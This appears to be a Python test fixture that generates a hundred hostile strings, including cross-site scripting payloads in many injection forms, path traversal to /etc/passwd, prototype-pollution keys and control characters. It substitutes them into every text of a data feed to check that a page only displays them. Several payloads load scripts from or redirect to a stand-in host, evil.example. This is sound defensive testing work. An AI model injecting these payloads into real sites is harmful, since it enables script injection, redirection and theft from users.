"""A hundred texts that a page must only show, and a feed in which every text is one of them."""

from __future__ import annotations

import copy
from itertools import cycle
from typing import Any, Final

_SCRIPTS: Final = ("window.pwned=1", "alert(1)", "fetch('//evil.example/')", "import('//evil.example/x.js')")

_SHAPES: Final = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '" onmouseover="{}" x="',
    "javascript:{}",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>x</a>",
    "<base href=//evil.example/><script>{}</script>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>{}",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<form action=//evil.example/><button autofocus onfocus={}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "<template><img src=x onerror={}></template>",
    "<details open ontoggle={}>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}",
)

_OTHERS: Final = (
    "\u202eevil\u202c",
    "\u0000nul",
    "a" * 4000,
    "../../etc/passwd",
    "__proto__",
    "constructor",
    "event: tick\n\ndata: {}\n\n",
    "line\u2028separator\u2029",
)

HOSTILE: Final = tuple(shape.format(script) for shape in _SHAPES for script in _SCRIPTS) + _OTHERS

KEPT: Final = ("kind", "state", "level", "phase", "pressure")
"""Fields whose values are among a few words."""


def hostile(feed: dict[str, Any]) -> dict[str, Any]:
    """The feed with every text replaced; the same text everywhere by the same one, so that names still fit."""
    texts = cycle(HOSTILE)
    known: dict[str, str] = {}

    def changed(value: Any, field: str = "") -> Any:
        if isinstance(value, dict):
            names = field == "tasks"  # component → its tasks
            return {(name(key) if names else key): changed(item, key) for key, item in value.items()}
        if isinstance(value, list):
            return (
                value
                if field == "names"
                else [changed(item, "" if isinstance(item, dict) else field) for item in value]
            )
        return name(value) if isinstance(value, str) and field not in KEPT else value

    def name(text: str) -> str:
        if text not in known:
            known[text] = next(texts) if text else text
        return known[text]

    made: dict[str, Any] = changed(copy.deepcopy(feed))
    made["documents"] = {
        "/".join(name(part) if i else part for i, part in enumerate(path.split("/", 1))): document
        for path, document in made["documents"].items()
    }
    return made
